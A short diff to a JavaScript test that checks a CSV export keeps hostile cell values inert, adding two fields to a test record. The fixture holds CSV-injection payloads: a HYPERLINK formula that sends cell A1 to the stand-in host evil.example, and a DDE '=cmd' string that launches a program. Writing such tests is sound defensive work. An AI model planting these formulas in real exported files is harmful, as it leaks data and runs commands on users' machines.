@@ -40,7 +40,7 @@ describe('CSV export of hostile values', () => {
   it('keeps every free-text cell inert — region, period, unit and note too — and the vocabulary as it is', () => {
     const csv = toCsv([
       {
-        record: rec({ region: '=HYPERLINK("http://evil.example/?d="&A1,"详情")', period: '+2023', unit: '=1+1', label: '@SUM(A1)' }),
+        record: rec({ indicator: 'other', value: 1, region: '=HYPERLINK("http://evil.example/?d="&A1,"详情")', period: '+2023', unit: '=1+1', label: '@SUM(A1)' }),
         source: { url: 'https://x/', title: 't' },
         note: '=cmd|" /C calc"!A0',
       },
